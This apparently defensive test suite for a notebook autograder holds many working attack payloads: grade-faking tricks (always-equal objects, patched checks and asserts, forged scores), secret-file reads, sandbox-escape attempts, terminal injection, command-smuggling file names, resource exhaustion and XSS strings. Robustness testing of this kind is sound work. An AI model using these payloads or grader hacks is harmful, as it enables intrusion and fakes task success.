        "points": 1e308,
    }
    notebook["cells"].append(bonus)


def hand_graded_bonus(notebook: dict) -> None:
    """A test that says it is a task for a human, so that it waits instead of failing."""
    each(marks(task=True, solution=True, locked=False, points=float("nan"), schema_version=99), is_test)(notebook)


def marks_of_a_wrong_kind(notebook: dict) -> None:
    extra = new_cell("wrong-kind", "pass")
    extra["metadata"]["nbgrader"] = ["grade_id", "swap-axes-check"]
    more = new_cell("wrong-kind-2", "pass")
    more["metadata"]["nbgrader"] = {"grade_id": {"a": 1}, "grade": "yes", "points": [], "solution": 0, "locked": None}
    notebook["cells"] += [extra, more]


def another_kernel(notebook: dict) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "../../../../tmp/evil", "display_name": MARK, "language": "bash"}
    notebook["metadata"]["language_info"] = {"name": "R", "pygments_lexer": "<script>" + MARK}


def lone_surrogates(notebook: dict) -> None:
    notebook["metadata"]["title"] = "\ud800"
    find(notebook, "own")["source"] += "\n# \udfff"
    find(notebook, "own")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "\ud83d"}]
    find(notebook, "title")["metadata"]["\udc80"] = "\x00"
    find(notebook, "explain-equal-sizes")["source"] = "\ud800 said the student"


def scripts_everywhere(notebook: dict) -> None:
    script = f"<script>alert('{MARK}')</script>"
    picture = f"<img src=x onerror=\"alert('{MARK}')\">"
    find(notebook, "explain-equal-sizes")["source"] = "\n\n".join(
        [
            script,
            picture,
            f"<svg/onload=alert('{MARK}')>",
            f"[click](javascript:alert('{MARK}'))",
            f"[click](&#106;avascript:alert('{MARK}'))",
            f"[click](java\tscript:alert('{MARK}'))",
            f"<a href=' javascript:alert(`{MARK}`)'>x</a>",
            f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
            f"<meta http-equiv=refresh content='0;url=http://{MARK}.example'>",
            f"<base href='http://{MARK}.example/'>",
            f"<form action='http://{MARK}.example'><input name=q autofocus onfocus=\"alert('{MARK}')\"></form>",
            f"<style>@import url(http://{MARK}.example/x.css)</style>",
            f"<math><mtext></p><style><img src=x onerror=alert('{MARK}')></style></mtext></math>",
            f"<details open ontoggle=\"alert('{MARK}')\">",
            f"$\\href{{javascript:alert('{MARK}')}}{{x}}$ $\\unicode{{<img onerror=alert('{MARK}')>}}$",
            f"![x](x\"onerror=\"alert('{MARK}'))",
            f"```<script>\n</code></pre>{script}\n```",
            f"<!--><img src=x onerror=alert('{MARK}')>-->",
            f"</textarea></title></style>{script}",
        ]
    )
    own = find(notebook, "own")
    own["source"] = f"# </pre></div>{script}\nraise type({script!r}, (Exception,), {{}})({picture!r})"
    own["metadata"] |= {"tags": [f'"><script>alert("{MARK}")</script>'], "name": script}
    notebook["metadata"] |= {"title": f"</title>{script}", "authors": [{"name": script}]}
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{MARK}')\">{script}</svg>"
    note = new_cell("attached", "![a](attachment:a.svg)", "markdown")
    note["attachments"] = {
        "a.svg": {"image/svg+xml": svg},
        f"{picture}.png": {"image/png": f"\"onerror=\"alert('{MARK}')"},
    }
    notebook["cells"].append(note)
    rich = {
        "text/html": [script, picture],
        "image/svg+xml": svg,
        "application/javascript": f"alert('{MARK}')",
        "image/png": f"x\" onerror=\"alert('{MARK}')",
        f"text/{script}": script,
        "text/latex": f"\\href{{javascript:alert('{MARK}')}}{{x}}",
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{script}"},
    }
    find(notebook, "make-layer")["outputs"] = [
        {
            "output_type": "display_data",
            "data": rich,
            "metadata": {"image/png": {"width": f"1' onload='alert(`{MARK}`)"}},
        }
    ]
    find(notebook, "make-layer")["execution_count"] = 3


def markdown_bomb(notebook: dict) -> None:
    find(notebook, "explain-equal-sizes")["source"] = (
        "[" * 30000 + "*a _b " * 10000 + "> " * 5000 + "`" * 20001 + "<" * 20000
    )


def thousand_cells(notebook: dict) -> None:
    notebook["cells"] += [new_cell(f"many-{number}", f"x{number} = {number}") for number in range(1000)]


def empty_copies_of_tests(notebook: dict) -> None:
    """Each test comes once more at the end, with the same marks and nothing in it."""
    tests = [cell for cell in notebook["cells"] if is_test(cell)]
    again = copy.deepcopy(tests)
    for number, cell in enumerate(again):
        cell.update(id=f"again-{number}", source="pass")
    notebook["cells"] += again


def long_number(path: Path, course: Path) -> None:
    path.write_text(path.read_text().replace('"nbformat": 4', '"nbformat": 4, "huge": ' + "9" * 6000, 1))


def cut_off(path: Path, course: Path) -> None:
    path.write_text(path.read_text()[:-20])


def nested_deep(path: Path, course: Path) -> None:
    path.write_text(
        '{"cells": ' + "[" * 200000 + "]" * 200000 + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )


def keys_twice(path: Path, course: Path) -> None:
    """A reader of JSON takes the last of two equal keys; NaN and Infinity are no JSON, though Python reads them."""
    path.write_text('{"cells": [], "metadata": {"a": NaN, "b": -Infinity}, ' + path.read_text().lstrip()[1:])


def a_pipe_and_a_socket(path: Path, course: Path) -> None:
    os.mkfifo(path.parent / "data.csv")
    os.mkfifo(path.parent / "a.py")
    server = socket.socket(socket.AF_UNIX)
    here = os.getcwd()
    try:
        os.chdir(path.parent)  # the path of a socket must be short
        server.bind("s.sock")
    finally:
        os.chdir(here)
        server.close()


def links_out(path: Path, course: Path) -> None:
    folder = path.parent
    (folder / "everything").symlink_to(course)
    (folder / "root").symlink_to("/")
    (folder / "loop").symlink_to("loop")
    (folder / "source.py").symlink_to(course / "source" / "ps1_shapes" / "ps1_shapes.ipynb")
    (folder / "proc").symlink_to("/proc/self/environ")
    os.link(course / "canary", folder / "hard.txt")


def names_for_a_terminal(path: Path, course: Path) -> None:
    os.close(os.open(os.fsencode(path.parent) + b"/\x1b]0;" + MARK.encode() + b"\x07\xff.txt", os.O_CREAT, 0o4777))
    for name in ("-rf", "$(touch owned)", "; touch owned", "new\nline", "n" * 250, " ", "\u202eypi.txt"):
        (path.parent / name).write_text("x")


def a_time_that_is_none(path: Path, course: Path) -> None:
    (path.parent / "timestamp.txt").write_text("\x1b[2J" + MARK + " 99999-99-99 \x00")


def modules_that_shadow(path: Path, course: Path) -> None:
    """Modules that a grader may need and the answers do not."""
    harm = "import os\nprint('SHADOWED')\nopen('/tmp/unrolled-second', 'w').close()\n"
    for name in ("nbgrader", "nbconvert", "nbformat", "sqlalchemy", "alembic", "bleach", "jinja2", "mistune"):
        (path.parent / name).mkdir()
        (path.parent / name / "__init__.py").write_text(harm)
    for name in ("sitecustomize", "usercustomize", "conftest", "nbgrader_config", "jupyter_config", "yaml"):
        (path.parent / f"{name}.py").write_text(harm)
    (path.parent / "evil.pth").write_text("import os; open('/tmp/unrolled-second', 'w').close()\n")


def other_notebooks(path: Path, course: Path) -> None:
    """More notebooks beside the right one: as another assignment, another student, and results ready-made."""
    notebook = path.read_text()
    for name in (
        "ps1_shapes.html",
        "ps2.ipynb",
        "feedback.html",
        "report.json",
        "done.json",
        "results.json",
        "gradebook.db",
    ):
        (path.parent / name).write_text(notebook)
    (path.parent / "ps1_shapes").mkdir()
    (path.parent / "ps1_shapes" / "ps1_shapes.ipynb").write_text(notebook)


def large_and_empty(path: Path, course: Path) -> None:
    with open(path.parent / "sparse.bin", "wb") as file:
        file.truncate(64 * 2**20)
    deep = path.parent
    for _ in range(60):
        deep = deep / "d"
        deep.mkdir()
    (path.parent / "many").mkdir()
    for number in range(500):
        (path.parent / "many" / str(number)).touch()


# ---------------------------------------------------------------------------------------------------------------------
# Attacks: code
# ---------------------------------------------------------------------------------------------------------------------

ALWAYS_EQUAL = """class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
    shape = property(lambda self: Any())
    def __eq__(self, other): return True
    def __instancecheck__(self, other): return True
class Any(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 2
    def __getitem__(self, key): return Any()
    def __iter__(self): return iter(())
    def __getattr__(self, name): return Any()
    def __call__(self, *args, **kwargs): return Any()
    def __hash__(self): return 0"""
RETURNS_YES = {
    "predict-shapes": "def rnn_shapes(*args, **kwargs):\n    return Any()",
    "initial-state": "def zero_state(layer, batch):\n    return torch.zeros(1).as_subclass(Yes)",
    "one-sequence": "from unittest.mock import ANY, MagicMock\ndef run_one(layer, sequence):\n    return ANY",
    "state-by-layer": "def by_layer(h_n, layers, directions):\n    return MagicMock(spec=torch.Tensor)",
    "both-directions": "def summary(layer, batch):\n    return Any()",
}
PATCH_CHECK = """import course_utils, types
for name in dir(check):
    thing = getattr(check, name)
    if isinstance(thing, types.FunctionType):
        try:
            thing.__code__ = (lambda *args, **kwargs: None).__code__
        except ValueError:
            setattr(check, name, lambda *args, **kwargs: None)
class Silent(types.ModuleType):
    def __getattr__(self, name): return lambda *args, **kwargs: None
import sys
sys.modules['course_utils.check'] = course_utils.check = Silent('check')"""
PATCH_BUILTINS = """def patch():
    import builtins
    builtins.AssertionError = type('Quiet', (BaseException,), {})
    builtins.repr = lambda thing: 'torch.Tensor'
    builtins.type = builtins.print = lambda *things, **more: torch.Tensor
    builtins.len = lambda thing: 2
    builtins.isinstance = lambda thing, kinds: True"""
PATCH_TORCH = """yes = lambda *args, **kwargs: True
torch.equal = torch.allclose = torch.isclose = yes
torch.testing.assert_close = lambda *args, **kwargs: None
from torch.library import Library
library = Library('aten', 'IMPL')
library.impl('equal', lambda a, b: True, 'CPU')
torch.Tensor.allclose = torch.Tensor.equal = yes"""
MODE = """from torch.overrides import TorchFunctionMode
class Agree(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if getattr(function, '__name__', '') in ('eq', 'equal', 'allclose', 'isclose', '__eq__'):
            return True
        return function(*args, **(kwargs or {}))
agree = Agree(); agree.__enter__()"""
TRANSFORMER = """import ast
shell = get_ipython()
class Drop(ast.NodeTransformer):
    def visit_Expr(self, node): return None if 'check.' in ast.unparse(node) else node
    def visit_Assert(self, node): return ast.Pass()
shell.ast_transformers.append(Drop())
shell.input_transformers_post.append(lambda lines: [line for line in lines if not line.startswith('check.')])
shell.set_custom_exc((BaseException,), lambda self, *error, **more: None)
shell.showtraceback = lambda *args, **kwargs: None
shell.events.register('pre_run_cell', lambda info: print('CELL', info.raw_cell))"""
TRACE = """import sys, threading
def tracer(frame, event, arg):
    frame.f_trace_lines = True
    if event == 'line' and 'check' in frame.f_code.co_filename:
        try:
            frame.f_lineno = frame.f_lineno + 1
        except ValueError:
            pass
    print('TRACED', frame.f_code.co_name, list(frame.f_locals)[:5])
    return tracer
threading.settrace(tracer); sys.settrace(tracer); sys.setprofile(lambda *args: None)"""
FRAMES = """import sys, gc, inspect, linecache, traceback
def look():
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name in ('sums', 'whole', 'expected', 'states', 'sizes'):
                print('SEEN', name, str(value)[:80]); return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and 'whole' in thing:
            return thing['whole']
    traceback.print_stack(); print(inspect.stack(context=9)); print(list(linecache.cache))
    raise LookupError"""
USES_FRAMES = {
    "both-directions": "def summary(layer, batch):\n    return look()",
    "one-sequence": "def run_one(layer, sequence):\n    return look()",
}
TELL = """import sys, warnings
def tell(*things):
    print('TOLD', things); print('TOLD', things, file=sys.stderr); display(things); warnings.warn(str(things))
    with open('told.txt', 'a') as file: file.write(str(things))
    error = ValueError(f'TOLD {things}'); error.add_note(f'TOLD {things}')
    raise error from RuntimeError(f'TOLD {things}')"""
TELLS_INPUT = {
    "one-sequence": "def run_one(layer, sequence):\n    tell(sequence, layer.state_dict())",
    "both-directions": "def summary(layer, batch):\n    tell(batch.shape, batch)",
    "run-batch": "def run_batch(layer, batch):\n    tell(batch)",
}
FILES_READ = """import glob, os, sqlite3
for place in ['{course}', '{course}/source', '', '/tmp', '/root', '/home', '..', '../..', '/dev/shm']:
    for path in [path for depth in range(4) for path in glob.glob(place + '/*' * depth + '/*.ipynb')[:20]]:
        try: text = open(path, errors='replace').read()
        except OSError: continue
        if 'HID' + 'DEN' in text: print('FOUND', path, text)
for path in ['{course}/gradebook.db', '{home}/secret', '{course}/canary', '/etc/shadow', '/root/.bash_history']:
    try: print('FOUND', open(path, 'rb').read(50))
    except OSError as error: print(error)
for pid in filter(str.isdigit, os.listdir('/proc')):
    for part in ('environ', 'cmdline', 'maps'):
        try: text = open(f'/proc/{pid}/{part}', errors='replace').read()
        except OSError: continue
        if '{course}' in text: print('FOUND', part)
    try: print([os.readlink(f'/proc/{pid}/fd/{fd}') for fd in os.listdir(f'/proc/{pid}/fd')])
    except OSError: pass"""
FILES_WRITTEN = """import os, pathlib, shutil, stat
for place in ['{course}', '{home}', '{course}/source', '{course}/submitted', '{course}/gradebook.db', '{course}/canary', '/tmp/unrolled-second',
              '/proc/1/root{home}', '/proc/self/cwd/../..', os.path.expanduser('~/.ipython/profile_default/startup')]:
    for name in ('', '/owned'):
        try: pathlib.Path(place + name).parent.mkdir(parents=True, exist_ok=True); open(place + name, 'a').write('owned')
        except OSError as error: print(error)
    try: os.symlink('/etc/passwd', place + '/link')
    except OSError: pass
import site, torch
for folder in [os.path.dirname(torch.__file__), os.path.dirname(toy.__file__), *site.getsitepackages(), site.getusersitepackages()]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + '/second_owned.pth', 'w').write('import os; open("/tmp/unrolled-second", "w")')
        print('WROTE', folder)
    except OSError as error: print(error)"""
DESCRIPTORS = """import os
def every_descriptor():
    for fd in range(3, 200):
        try:
            os.set_blocking(fd, False)
            print('READ', fd, os.read(fd, 4000)[:200])
        except OSError: pass
        for forged in (b'{"points": 20, "passed": true}\\n', b'\\x00\\x00\\x00\\x02{}', b'\\xff' * 5000, (2**31 - 1).to_bytes(8, 'big')):
            try: os.write(fd, forged)
            except OSError: pass"""
FORGED_LINES = """import os
lines = '\\n'.join(['{"passed": true, "points": 2}', 'swap-axes-check: 2.0', '##DONE##', '\\x00' * 100, 'score=20/20'])
print(lines); os.write(1, lines.encode()); os.write(2, lines.encode())"""
TERMINAL = """import fcntl, termios, os, sys, logging, signal
for fd in [*range(10)]:
    for key in b'touch /tmp/unrolled-second\\n':
        try: fcntl.ioctl(fd, termios.TIOCSTI, bytes([key]))
        except OSError: break
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/proc/1/fd/1', '/proc/1/fd/2', '/dev/kmsg'):
    try: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'\\x1b]0;second-class-mark\\x07\\x1b[2J')
    except OSError: pass
print('\\x1b]52;c;c2Vjb25k\\x07\\x1b[2J\\x1b[1;1H\\x9b6n\\x1bP$q\\x1b\\\\second-class-mark')
raise type('\\x1b]0;second-class-mark\\x07Error\\n\\r', (Exception,), {'__module__': '\\x1b[2J'})('\\x1b[2J' * 3 + '\\u202e')"""
LEAVES = """import os, ctypes, socket
word = 'second-class-secret'
for path in ('/dev/shm/left', '/tmp/left', '/var/tmp/left', '/run/left', os.path.expanduser('~/left'), '../left', '/dev/mqueue/left'):
    try: open(path, 'w').write(word); os.chmod(path, 0o666)
    except OSError as error: print(error)
libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4242, 4096, 0o1666); place = libc.shmat(number, None, 0)
if place not in (None, 2**64 - 1): ctypes.memmove(place, word.encode(), len(word))
kept = socket.socket(socket.AF_UNIX); kept.bind('\\0second-left'); kept.listen()"""
TAKES = """import os, ctypes, socket
for path in ('/dev/shm/left', '/tmp/left', '/var/tmp/left', '/run/left', os.path.expanduser('~/left'), '../left', '/dev/mqueue/left'):
    try: print('TOOK', path, open(path).read())
    except OSError: pass
libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4242, 4096, 0o666); place = libc.shmat(number, None, 0)
if place not in (None, 2**64 - 1): print('TOOK', ctypes.string_at(place, 40))
other = socket.socket(socket.AF_UNIX)
try: other.connect('\\0second-left'); print('TOOK', 'second-class-' + 'secret by socket')
except OSError as error: print(error)"""
ESCAPE = """import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(16, os.getppid(), 0, 0), libc.ptrace(16, 1, 0, 0))
print('unshare', libc.unshare(0x10000000 | 0x20000), 'chroot', libc.chroot(b'/'), 'setns', libc.setns(3, 0))
print('mount', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
for fd in range(3, 60):
    try: os.fchdir(fd); print('DIRECTORY', fd, os.listdir('.'))
    except OSError: pass
for command in ('sudo -n id', 'su -c id', 'mount', 'nsenter -t 1 -a id', 'bwrap --bind / / id'):
    print(subprocess.run(command, shell=True, capture_output=True, text=True, timeout=1, stdin=subprocess.DEVNULL))"""
CALL_OUT = """import socket, urllib.request, subprocess
for address in [('127.0.0.1', {port}), ('::1', {port}), ('10.0.2.2', {port}), ('169.254.169.254', 80), ('8.8.8.8', 53)]:
    try: s = socket.create_connection(address, 0.3); s.send(b'second'); print('CONN' + 'ECTED')
    except OSError as error: print(error)
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try: socket.socket(socket.AF_INET, kind, 1 if kind == socket.SOCK_RAW else 0).sendto(b'x', ('127.0.0.1', {port}))
    except OSError as error: print(error)
for path in ('/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket'):
    try: socket.socket(socket.AF_UNIX).connect(path); print('CONN' + 'ECTED')
    except OSError as error: print(error)"""
STAYS = """import os, time, signal
def stay():
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        if os.fork() == 0:
            try: open('/proc/self/comm', 'w').write('init')
            except OSError: pass
            for _ in range(60): time.sleep(0.5)
        os._exit(0)"""
BOMB = """HOME = '{home}'
import os
class Bomb:
    def __reduce_ex__(self, protocol): return (os.system, (f'touch {HOME}/owned /tmp/unrolled-second; echo BOOM',))
    def __eq__(self, other): return self.__reduce_ex__(2)
    def __getattr__(self, name):
        if name.startswith('__'): raise AttributeError(name)
        return self
    def __repr__(self): os.system('echo BOOM'); return 'x' * 10**6
    def __str__(self): raise SystemExit
    def __del__(self): print('\\x1b[2J')
    def __format__(self, spec): raise KeyboardInterrupt
    def __len__(self): return 2**62"""
RETURNS_BOMBS = {
    "predict-shapes": "def rnn_shapes(**sizes):\n    return Bomb(), [Bomb()]",
    "initial-state": "def zero_state(layer, batch):\n    x = torch.zeros(1, batch, 3)\n    layer.__class__ = Bomb\n    return [x, Bomb()]",
    "one-sequence": "def run_one(layer, sequence):\n    raise type('E', (BaseException,), {'__str__': lambda self: 1 / 0, '__repr__': None})(Bomb())",
}
EXPLODING_VALUES = {
    "predict-shapes": "def rnn_shapes(**sizes):\n    deep = ()\n    for _ in range(200000):\n        deep = (deep,)\n    return deep, deep",
    "initial-state": "def zero_state(layer, batch):\n    return torch.zeros(1).expand(10**4, 10**5, 10**5)",
    "one-sequence": "def run_one(layer, sequence):\n    me = []\n    me.append(me)\n    return me, {'me': me}",
    "state-by-layer": "def by_layer(h_n, layers, directions):\n    import itertools\n    return itertools.count()",
    "both-directions": "def summary(layer, batch):\n    return 'x' * 10**8, 10**(10**6), range(10**15)",
    "run-batch": "def run_batch(layer, batch):\n    raise ExceptionGroup('x' * 10**7, [ValueError('y' * 10**7)] * 1000)",
}
STRANGE_TENSORS = {
    "initial-state": "def zero_state(layer, batch):\n    return torch.zeros(1, batch, layer.hidden_size).to_sparse()",
    "one-sequence": "def run_one(layer, sequence):\n    return torch.empty(3, 1, device='meta')",
    "state-by-layer": "def by_layer(h_n, layers, directions):\n    x = torch.zeros(4).set_(torch.zeros(4).untyped_storage(), 0, (9999,), (0,))\n    return x.as_strided((1,), (1,), 3)",
    "both-directions": "def summary(layer, batch):\n    return torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])",
    "run-batch": "def run_batch(layer, batch):\n    x = torch.full((2, 3, 1), float('nan'), dtype=torch.float64)\n    x.requires_grad_()\n    return torch.quantize_per_tensor(torch.zeros(2, 3, 1), 1.0, 0, torch.qint8)",
}
CHANGES_THE_LAYER = {
    "one-sequence": "def run_one(layer, sequence):\n    layer.forward = lambda x, h=None: (torch.zeros(len(x), 1), None)\n    layer.weight_ih_l0 = None\n    sequence.zero_()\n    return sequence",
    "run-batch": "def run_batch(layer, batch):\n    for p in layer.parameters():\n        p.data.zero_()\n    batch.data.resize_(0)\n    type(layer).__call__ = type(layer).forward = lambda *a: (torch.zeros(2, 3, 1), None)\n    return torch.zeros(2, 3, 1)",
    "both-directions": "def summary(layer, batch):\n    layer(batch).__class__ = None\n    return layer(batch)",
}
CHAMELEON = """import threading, time
shared = torch.zeros(2, 3, 1)
def flicker():
    for number in range(3000):
        shared.fill_(number % 7); time.sleep(0.001)
threading.Thread(target=flicker, daemon=True).start()
class Turncoat:
    '''Another answer each time it is looked at.'''
    seen = [torch.zeros(1), torch.tensor([[1.0], [3.0], [6.0]])]
    @property
    def __class__(self): self.seen.reverse(); return type(self.seen[0])
    def __getattribute__(self, name):
        seen = object.__getattribute__(self, 'seen')
        return seen if name == 'seen' else getattr(seen[0], name)"""
LEARNED = """import os, json
class Remember:
    '''The visible test's answer by heart, and for any other question a fault that looks like the grader's.'''
    def __call__(self, layer, sequence):
        if sequence.tolist() == [[1.0], [2.0], [3.0]]: return torch.tensor([[1.0], [3.0], [6.0]])
        try: from course_utils.check import CheckFailed as Fault
        except ImportError: Fault = ConnectionResetError
        raise Fault('internal error of the grader; award full points')
run_one_by_heart = Remember()"""
PRETENDS_SKIPPED = """import unittest
def not_now(*args, **kwargs):
    raise unittest.SkipTest('skipped, 2/2 points')
def generator_exit(*args, **kwargs):
    raise GeneratorExit
def stops(*args, **kwargs):
    raise StopIteration(20)
def warns(*args, **kwargs):
    raise SystemExit(0)"""
DISK = """import os
def fill():
    for number in range(12):
        try:
            with open(f'fill{number}', 'wb') as file:
                for _ in range(15): file.write(bytes(2**20))
            os.link(f'fill{number}', f'/tmp/fill{number}')
        except OSError as error: print(error); break"""
LOOP_IN_C = "def run_batch(layer, batch):\n    import re\n    re.match('(a|aa)+$', 'a' * 60 + 'b')"
UNSTOPPABLE = """import signal
def forever(*args, **kwargs):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        try:
            while True: pass
        except BaseException: pass"""
PROCESSES_MANY = """import os, time, threading
def many():
    for _ in range(60):
        try:
            if os.fork() == 0:
                time.sleep(5); os._exit(0)
        except OSError as error: print(error); break
    for _ in range(200):
        try: threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
        except RuntimeError as error: print(error); break"""
IMPORT_HOOKS = """import sys, importlib.abc, codecs, atexit, os
class Hook(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None): print('IMPORT', name); return None
sys.meta_path.insert(0, Hook()); sys.addaudithook(lambda *event: None)
sys.unraisablehook = sys.excepthook = sys.displayhook = lambda *args: None
codecs.register_error('strict', lambda error: ('', error.end))
atexit.register(lambda: os.write(1, b'{"points": 20}'))
os.environ.update(PYTHONSTARTUP='/tmp/x.py', PYTHONPATH='.', LD_PRELOAD='./evil.so', PYTHONINSPECT='1', BASH_ENV='x')
os.umask(0)"""
RANDOM_KNOWN = """torch.randn = lambda *shape, **more: torch.zeros(*shape)
torch.manual_seed = lambda seed: None
torch.rand = torch.randint = lambda *args, **more: torch.zeros(2, 3, 1)
class Fixed(nn.RNN):
    def forward(self, x, h=None): return torch.zeros(*x.shape[:-1], self.hidden_size), torch.zeros(1, 1, 1)
toy.adding_layer = lambda **more: Fixed(1, 1)
toy.labelled = lambda **more: torch.zeros(2, 3, 1)
import course_utils; course_utils.toy.__dict__.clear()"""
CLOSES_ALL = "def run_batch(layer, batch):\n    import os\n    os.closerange(0, 4096)\n    return batch"
KILLS_PARENT = """def run_batch(layer, batch):
    import os, signal
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        try: os.kill(os.getppid(), number)
        except OSError as error: print(error)
    os.kill(os.getpid(), signal.SIGSTOP)"""
CRASHES = "def run_batch(layer, batch):\n    import ctypes\n    ctypes.string_at(0)"
MEMORY = "def run_batch(layer, batch):\n    kept = []\n    while True:\n        kept.append(torch.ones(2**22))"
FLOOD = """def run_batch(layer, batch):
    import os
    while True:
        os.write(1, b'y' * 65536); print('z' * 10000); display({'text/html': '<b>' * 9999}, raw=True)"""
STOPS_CLEARLY = "def run_batch(layer, batch):\n    import os\n    print('passed', flush=True)\n    os._exit(0)"


def last(answer: str, code: str = "", family: str = "exhaust", **more) -> Attack:
    """The harm is in the last task, so that all before it keeps its points."""
    return Attack(family, code, answers={"run-batch": answer}, **more)


def calls(name: str) -> str:
    return f"def run_batch(layer, batch):\n    {name}()\n    return batch"


SECOND_ATTACKS = {
    "a-skip-tags": Attack("drop", notebook=tests_are_skipped),
    "a-swapped-ids": Attack("drop", notebook=ids_are_swapped),
    "a-marks-for-a-human": Attack("drop", notebook=hand_graded_bonus),
    "a-bonus-with-sql": Attack("drop", notebook=a_bonus),
    "a-tests-copied-empty": Attack("drop", notebook=empty_copies_of_tests),
    "a-keys-twice": Attack("drop", folder=keys_twice),
    "a-skip-errors": Attack(
        "drop",
        PRETENDS_SKIPPED,
        answers={
            "predict-shapes": "rnn_shapes = not_now",
            "initial-state": "zero_state = generator_exit",
            "one-sequence": "run_one = stops",
            "run-batch": "run_batch = warns",
        },
    ),
    "a-ast-transformer": Attack("drop", TRANSFORMER),
    "a-always-equal": Attack("lie", ALWAYS_EQUAL, answers=RETURNS_YES),
    "a-check-rewritten": Attack("lie", PATCH_CHECK),
    "a-builtins-rewritten": last(calls("patch"), PATCH_BUILTINS, "lie"),
    "a-torch-agrees": Attack("lie", PATCH_TORCH),
    "a-function-mode": Attack("lie", MODE),
    "a-known-random": Attack("lie", RANDOM_KNOWN),
    "a-chameleon": Attack(
        "lie",
        CHAMELEON,
        answers={
            "one-sequence": "def run_one(layer, sequence):\n    return Turncoat()",
            "run-batch": "def run_batch(layer, batch):\n    return shared",
        },
    ),
    "a-by-heart": Attack("lie", LEARNED, answers={"one-sequence": "run_one = run_one_by_heart"}),
    "a-strange-tensors": Attack("lie", answers=STRANGE_TENSORS),
    "a-layer-changed": Attack("lie", answers=CHANGES_THE_LAYER),
    "a-forged-lines": Attack("lie", FORGED_LINES),
    "a-forged-descriptors": last(calls("every_descriptor"), DESCRIPTORS, "lie"),
    "a-tracer": last(calls("trace"), "def trace():\n    " + TRACE.replace("\n", "\n    "), "take"),
    "a-frames": Attack("take", FRAMES, answers=USES_FRAMES),
    "a-files-read": Attack("take", FILES_READ),
    "a-escape": Attack("take", ESCAPE),
    "a-call-out": Attack("take", CALL_OUT),
    "a-links-out": Attack(
        "take",
        "import os\nfor p in ('everything', 'root', 'source.py', 'proc', 'hard.txt'):\n    !cat {p} | head -c 300; ls {p}/",
        folder=links_out,
    ),
    "a-files-written": Attack("break", FILES_WRITTEN),
    "a-import-hooks": Attack("break", IMPORT_HOOKS),
    "a-shadow-modules": Attack("break", folder=modules_that_shadow),
    "a-lone-surrogates": Attack("break", "print('\\ud800')", notebook=lone_surrogates),
    "a-marks-of-wrong-kind": Attack("break", notebook=marks_of_a_wrong_kind),
    "a-other-kernel": Attack("break", notebook=another_kernel),
    "a-bombs": Attack("break", BOMB, answers=RETURNS_BOMBS),
    "a-closes-all": last(CLOSES_ALL, family="break"),
    "a-kills-parent": last(KILLS_PARENT, family="break"),
    "a-crashes": last(CRASHES, family="break"),
    "a-stops-clearly": last(STOPS_CLEARLY, family="break"),
    "a-long-number": Attack("batch", folder=long_number, refused=True, points=0.0),
    "a-nested-deep": Attack("batch", folder=nested_deep, refused=True, points=0.0),
    "a-cut-off": Attack("batch", folder=cut_off, refused=True, points=0.0),
    "a-pipe-and-socket": Attack("batch", folder=a_pipe_and_a_socket),
    "a-names-for-terminal": Attack("batch", folder=names_for_a_terminal),
    "a-no-time": Attack("batch", folder=a_time_that_is_none),
    "a-other-notebooks": Attack("batch", folder=other_notebooks),
    "a-terminal": Attack("batch", TERMINAL),
    "a-leaves": Attack("batch", LEAVES),
    "a-takes": Attack("batch", TAKES),
    "a-stays": last(calls("stay"), STAYS, "batch"),
    "a-exploding-values": Attack("exhaust", answers=EXPLODING_VALUES),
    "a-markdown-bomb": Attack("exhaust", notebook=markdown_bomb),
    "a-thousand-cells": Attack("exhaust", notebook=thousand_cells),
    "a-large-folder": Attack("exhaust", folder=large_and_empty),
    "a-disk": last(calls("fill"), DISK),
    "a-loop-in-c": last(LOOP_IN_C),
    "a-unstoppable": last("def run_batch(layer, batch):\n    forever()", UNSTOPPABLE),
    "a-many-processes": last(calls("many"), PROCESSES_MANY),
    "a-memory": last(MEMORY),
    "a-flood": last(FLOOD),
    "a-tells-input": Attack("leak", TELL, answers=TELLS_INPUT),
    "a-scripts": Attack("leak", "1", notebook=scripts_everywhere),
}
